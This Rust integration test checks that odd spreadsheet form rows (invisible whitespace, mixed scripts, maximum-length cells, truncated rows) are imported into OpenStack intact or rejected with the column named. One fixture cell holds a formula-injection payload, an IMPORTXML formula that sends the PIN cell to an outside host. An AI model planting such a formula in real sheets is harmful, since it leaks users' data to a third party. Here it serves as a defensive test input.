//! Rows with what people really type into forms: each is imported, or rejected with a reason that says where.

use serde_json::Value;
use usher_tests::sheet::AccessRow;

use crate::at_google::{AtGoogle, CHANGE, LIST, READ};
use crate::stage::{entries, expect_status, text};

/// As much as Google takes in one cell.
const LONGEST: usize = 50_000;

const DOMAIN: &str = "odd.google.example.org";

fn user(name: &str) -> String {
    format!("{name}@{DOMAIN}")
}

/// A long text of several scripts with this at its end.
fn long(end: &str) -> String {
    let pattern: Vec<char> = "Why? \u{1f98a} \u{5d9}\u{5e2}\u{5dc} =1+1, \"quoted\"\n".chars().collect();
    let length = LONGEST - end.chars().count();
    pattern.iter().cycle().take(length).collect::<String>() + end
}

#[test]
fn odd_rows_are_imported_whole_or_rejected_with_the_place() {
    let founding = |name: &str| AccessRow::founding(&user(name), &format!("Odd {name}"));
    // The tests of the fixtures know by these words that a project is none of theirs.
    let comment = long("the end of the tests");
    let mut rows = Vec::new();
    let mut add = |row: AccessRow| {
        rows.push(row);
        rows.len() - 1
    };

    let mut row = founding("comment");
    row.set(13, &comment);
    add(row);
    let mut row = founding("description");
    row.set(16, &comment);
    add(row);
    let mut row = founding("blanks");
    row.set(0, "\u{a0}Approved\u{a0}").set(4, &format!("\u{feff}\u{a0}{}\u{a0}\u{200b}", user("blanks")));
    row.set(7, "No\u{a0}")
        .set(12, "\u{a0}4821")
        .set(15, "Odd\u{a0}\u{a0}blanks")
        .set(5, "\u{a0}Zo\u{eb}\u{a0}");
    add(row);
    let mut row = founding("scripts");
    row.set(5, "\u{5d9}\u{5e2}\u{5dc}")
        .set(6, "\u{202b}\u{645}\u{631}\u{62d}\u{628}\u{627}\u{202c} \u{1f98a}");
    row.set(15, "Odd \u{1f98a} \u{5d9}");
    add(row);
    let mut row = founding("formula");
    row.set(5, "=1+1")
        .set(13, "=IMPORTXML(\"https://example.org/?\" & M2, \"//a\")")
        .set(16, "+A1 of the tests");
    add(row);
    // What is missing at the end is blank: here from the existing users on, and below from the PIN on.
    let mut row = founding("short");
    row.0.truncate(17);
    add(row);
    add(founding("twin"));
    let done = rows.len();

    let mut rejected: Vec<(usize, &str)> = Vec::new();
    let mut refuse = |row: AccessRow, words: &'static str| {
        rows.push(row);
        rejected.push((rows.len(), words));
    };
    refuse(founding("twin"), "the same submission as row 8");
    let mut row = founding("pinless");
    row.0.truncate(12);
    refuse(row, "column M (PIN) is blank");
    let mut row = founding("name");
    row.set(15, &"\u{1f98a}".repeat(65));
    refuse(row, "column P (project) is 65 characters long");
    let mut row = founding("longname");
    row.set(15, &comment);
    refuse(row, "column P (project) is 50000 characters long");
    let mut row = founding("time");
    row.set(3, &comment);
    refuse(row, "column D (timestamp) holds \"Why?");
    let mut row = founding("address");
    row.set(4, &long(&user("address")));
    refuse(row, "column E (e-mail) holds \"Why?");
    let mut row = founding("pin");
    row.set(12, &comment);
    refuse(row, "column M (PIN) has to hold four digits");

    let at = AtGoogle::new(&rows, true);
    let before = at.requests();
    let run = at.site.import(&["--all", "--json"]).unwrap();
    expect_status(&run, 1);
    let report = run.json().unwrap();
    let by_row = |number: usize| entries(&report["rows"]).iter().find(|row| row["row"] == number).unwrap();
    for number in 2..done + 2 {
        assert_eq!(text(by_row(number), "outcome"), "done", "{}", short(by_row(number)));
    }
    for (number, words) in &rejected {
        let row = by_row(number + 1);
        assert_eq!(text(row, "outcome"), "rejected", "{}", short(row));
        assert!(text(row, "error").contains(words), "{words}: {}", short(row));
        assert!(row.to_string().len() < 2000, "a report is for reading: {}", short(row));
    }
    assert_eq!(at.google.calls().unwrap(), [READ, READ, LIST, CHANGE]);

    // Every cell moved, or stayed, as it was.
    let (requests, moved) = (at.requests(), at.done());
    assert!(moved[1..] == before[1..=done], "the rows that moved");
    assert!(requests[1..] == before[done + 1..], "the rows that stayed");
    assert!(moved[1][13] == comment);
    at.google.expect_order().unwrap();

    let cloud = &at.stage.cloud;
    let project = |name: &str| cloud.openstack(&["project", "show", name]).unwrap();
    assert!(text(&project("Odd description"), "description") == comment, "all of it");
    for name in ["Odd blanks", "Odd \u{1f98a} \u{5d9}"] {
        assert_eq!(text(&project(name), "name"), name);
    }
    assert_eq!(text(&project("Odd formula"), "description"), "+A1 of the tests");
    let description = |name: &str| {
        let shown = cloud.openstack(&["user", "show", &user(name)]).unwrap();
        text(&shown, "description").to_owned()
    };
    assert_eq!(description("blanks"), "Zo\u{eb} Person");
    assert_eq!(description("formula"), "=1+1 Person");
    assert!(description("scripts").starts_with("\u{5d9}\u{5e2}\u{5dc} "));
    for name in ["pinless", "name", "longname", "time", "pin"] {
        assert_eq!(cloud.identity().unwrap().user_id(&user(name)).unwrap(), None, "{name}");
    }
}

/// Enough of a row of the report to see what is wrong.
fn short(row: &Value) -> String {
    row.to_string().chars().take(600).collect()
}
